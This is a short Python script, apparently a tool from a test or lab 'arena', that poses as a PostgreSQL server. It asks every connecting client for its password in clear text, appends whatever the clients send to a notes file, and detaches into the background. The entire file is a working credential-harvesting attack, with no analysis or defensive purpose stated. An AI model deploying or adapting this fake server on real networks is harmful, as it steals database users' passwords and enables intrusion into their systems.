"""collect.py ADDRESS PORT: a server that asks every client of PostgreSQL for its password in clear text; returns when it listens.

Everything that it is sent goes to `$ARENA/notes/collected`, on one line for each connection.
"""
import os
import socket
import struct
import sys
import threading

collected = open(os.path.join(os.environ["ARENA"], "notes/collected"), "ab", 0)


def serve(client):
    client.settimeout(5)
    told = b""
    try:
        while chunk := client.recv(65536):
            told += chunk
            if told.endswith(b"\0\0"):
                client.sendall(b"R" + struct.pack(">II", 8, 3))
    except OSError:
        pass
    collected.write(told.replace(b"\n", b" ") + b"\n")
    client.close()


listener = socket.create_server((sys.argv[1], int(sys.argv[2])))
if os.fork() > 0:
    sys.exit(0)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
